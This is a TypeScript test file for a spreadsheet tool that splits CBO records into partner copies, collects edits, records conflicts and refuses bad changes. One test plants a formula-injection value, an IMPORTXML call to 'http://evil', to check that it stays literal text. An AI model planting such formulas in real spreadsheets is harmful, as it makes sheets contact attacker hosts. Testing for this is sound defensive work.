/** Partner copies through the offline runtime: split → edit copies → collect, twice. */
import { OfflineRuntime } from '../../src/offline/runtime';
import { CODE_PATH, ensureBuild } from '../support/runtime';
import type { Cell } from '../../src/workbook/values';

// The very bundle that is pushed: build/Code.js (built once if missing or stale).
const codePath = CODE_PATH;

beforeAll(() => ensureBuild());

const HEADER = ['CBO ID', 'CBO name', 'Province', 'Members', 'Partner', 'Phone', 'Our column'];
function workbook(n = 4): Record<string, Cell[][]> {
  const cbos: Cell[][] = [HEADER];
  for (let i = 1; i <= n; i++)
    cbos.push([
      `C${i}`,
      `CBO ${i}`,
      'Takeo',
      10 + i,
      i % 2 ? 'Partner A' : 'Partner B',
      '012 345 678',
      `mine ${i}`,
    ]);
  return {
    CBOs: cbos,
    // The staff's own column goes to the copies because Settings names it.
    Settings: [
      ['Setting', 'Value'],
      ['Partner columns', 'Our column'],
    ],
    Partners: [
      ['Partner', 'Type', 'Email', 'Receives reports'],
      ['Partner A', 'LNGO', 'a@example.org, a2@example.org', 'Yes'],
      ['Partner B', 'LNGO', 'b@example.org', 'No'],
    ],
    Lists: [['Sector'], ['Health']],
    Geography: [
      ['Province', 'District'],
      ['Takeo', 'Bati'],
    ],
  };
}

function copyOf(runtime: OfflineRuntime, partner: string) {
  const copy = runtime.createdSpreadsheets.find((s) => s.getName() === `${partner} – CBOs`)!;
  return copy.getSheetByName('CBOs')!;
}

describe('partner sheets', () => {
  test('split, edit, collect: applied, appended, flagged, conflicts, refused; collect twice applies nothing', async () => {
    const runtime = await OfflineRuntime.open({ sheets: workbook(), codePath });
    const split = runtime.run('createPartnerSheets') as {
      partners: { partner: string; cbos: number; id: string }[];
    };
    expect(split.partners.map((p) => [p.partner, p.cbos])).toEqual([
      ['Partner A', 2],
      ['Partner B', 2],
    ]);
    const a = copyOf(runtime, 'Partner A');
    expect(a.getDataRange().getValues()[0]).toEqual(HEADER);
    expect(a.getRange('F2').getValue()).toBe('012 345 678');
    expect(a.getParent()._state.editors).toEqual(expect.arrayContaining(['a@example.org', 'a2@example.org']));
    const partners = runtime.sheetValues('Partners')!;
    expect(partners[0][4]).toBe('Partner sheet');
    expect(partners[1][4]).toBe(split.partners[0].id);

    // The master changes C3 Members after the split.
    runtime.spreadsheet.getSheetByName('CBOs')!.getRange('D4').setValue(99);
    // Partner A: edit a cell, edit C3 Members too (conflict), a formula-looking text, delete C1, add C9.
    a.getRange('B3').setValue('\'=IMPORTXML("http://evil","//a")'); // C3 name, literal text in the copy
    a.getRange('D3').setValue(50);
    a.getRange('A2:G2').setValues([['', '', '', '', '', '', '']]);
    a.getRange('A4:G4').setValues([['C9', 'New CBO', 'Takeo', 5, 'Partner A', '', '']]);
    // Partner B: moves its C2 to Partner A (refused) and renames a header (still matched), tampering with "Province".
    const b = copyOf(runtime, 'Partner B');
    b.getRange('E2').setValue('Partner A');
    b.getRange('C1').setValue('Provinces');
    b.getRange('D3').setValue(7); // C4 members: applied

    const first = runtime.run('collectPartnerUpdates') as { updated: number; appended: number };
    expect(first).toMatchObject({ updated: 2, appended: 1 });
    const cbos = runtime.sheetValues('CBOs')!;
    expect(cbos[3]).toEqual([
      'C3',
      '=IMPORTXML("http://evil","//a")',
      'Takeo',
      99,
      'Partner A',
      '012 345 678',
      'mine 3',
    ]);
    expect(runtime.spreadsheet.getSheetByName('CBOs')!.getRange('B4').getFormula()).toBe('');
    expect(cbos[1][0]).toBe('C1'); // deleted by the partner: kept
    expect(cbos[4][3]).toBe(7);
    expect(cbos[5].slice(0, 5)).toEqual(['C9', 'New CBO', 'Takeo', 5, 'Partner A']);
    const conflicts = runtime.sheetValues('Sync conflicts')!;
    const notes = conflicts.slice(1).map((r) => `${r[0]}|${r[1]}|${r[2]}|${r[3]}|${r[4]}|${r[5]}`);
    expect(notes).toContain('Partner A|C3|Members|99|50|13');
    expect(conflicts.some((r) => r[1] === 'C1' && /Deleted from the partner copy/.test(String(r[7])))).toBe(
      true,
    );
    expect(conflicts.some((r) => r[1] === 'C2' && /refused/.test(String(r[7])))).toBe(true);
    expect(conflicts.some((r) => r[2] === 'Provinces')).toBe(true);
    const log = runtime.sheetValues('Change log')!;
    expect(log.filter((r) => String(r[1]).includes('(from Partner'))).toHaveLength(3);

    const second = runtime.run('collectPartnerUpdates') as { updated: number; appended: number };
    expect(second).toMatchObject({ updated: 0, appended: 0 });
    expect(runtime.sheetValues('CBOs')).toEqual(cbos);
    expect(runtime.sheetValues('Change log')).toHaveLength(log.length);
  });

  test('split again: copies are reused and refreshed; a copy with uncollected changes is left alone', async () => {
    const runtime = await OfflineRuntime.open({ sheets: workbook(), codePath });
    type Split = { partners: { partner: string; id: string; reused: boolean; refused?: string }[] };
    const first = runtime.run('createPartnerSheets') as Split;
    expect(runtime.spreadsheet.getSheetByName('Partner snapshots')!.isSheetHidden()).toBe(true);
    const cbos = runtime.spreadsheet.getSheetByName('CBOs')!;
    cbos.getRange('B2').setValue('Renamed in the master'); // C1, Partner A
    cbos.getRange('A6:G6').setValues([['C5', 'CBO 5', 'Takeo', 15, 'Partner B', '', '']]);
    const second = runtime.run('createPartnerSheets') as Split;
    expect(second.partners.map((p) => [p.partner, p.id, p.reused])).toEqual(
      first.partners.map((p) => [p.partner, p.id, true]),
    );
    expect(runtime.createdSpreadsheets).toHaveLength(2);
    expect(copyOf(runtime, 'Partner A').getRange('B2').getValue()).toBe('Renamed in the master');
    expect(
      copyOf(runtime, 'Partner B')
        .getDataRange()
        .getValues()
        .map((r) => r[0]),
    ).toEqual(['CBO ID', 'C2', 'C4', 'C5']);

    // Partner A edits its copy: the next split leaves it alone and says why; B is refreshed.
    copyOf(runtime, 'Partner A').getRange('D2').setValue(77);
    const third = runtime.run('createPartnerSheets') as Split;
    expect(third.partners[0].refused).toMatch(/C1 › Members/);
    expect(third.partners[1]).toMatchObject({ reused: true });
    expect(copyOf(runtime, 'Partner A').getRange('D2').getValue()).toBe(77);
    expect(runtime.ui.events.some((e) => e.kind === 'alert' && /not refreshed/.test(e.text))).toBe(true);

    // Once collected, the copy is refreshed again.
    expect(runtime.run('collectPartnerUpdates')).toMatchObject({ updated: 1 });
    const fourth = runtime.run('createPartnerSheets') as Split;
    expect(fourth.partners.every((p) => p.reused && !p.refused)).toBe(true);
    expect(runtime.createdSpreadsheets).toHaveLength(2);
    expect(runtime.sheetValues('CBOs')![1][3]).toBe(77);
  });

  test('hideSheet: the last visible sheet cannot be hidden', async () => {
    const runtime = await OfflineRuntime.open({ sheets: { CBOs: [['CBO ID']], Notes: [['x']] }, codePath });
    const notes = runtime.spreadsheet.getSheetByName('Notes')!;
    notes.hideSheet();
    expect(notes.isSheetHidden()).toBe(true);
    expect(() => runtime.spreadsheet.getSheetByName('CBOs')!.hideSheet()).toThrow(/hide all the sheets/);
    notes.showSheet();
    expect(notes.isSheetHidden()).toBe(false);
  });

  test('a copy whose CBO ID header is gone is refused with a clear problem', async () => {
    const runtime = await OfflineRuntime.open({ sheets: workbook(), codePath });
    runtime.run('createPartnerSheets');
    copyOf(runtime, 'Partner A').getRange('A1').setValue('Code');
    const result = runtime.run('collectPartnerUpdates') as {
      partners: { partner: string; refused?: string }[];
    };
    expect(result.partners[0].refused).toMatch(/no "CBO ID" column/);
  });

  test('collect makes as many service calls for 40 CBOs as for 400', async () => {
    const calls: number[] = [];
    for (const n of [40, 400]) {
      const runtime = await OfflineRuntime.open({ sheets: workbook(n), codePath });
      runtime.run('createPartnerSheets');
      copyOf(runtime, 'Partner A').getRange('B2').setValue('Renamed');
      expect(runtime.run('collectPartnerUpdates')).toMatchObject({ updated: 1 });
      calls.push(runtime.lastRun!.serviceCalls);
    }
    expect(calls[1]).toBe(calls[0]);
  });
});
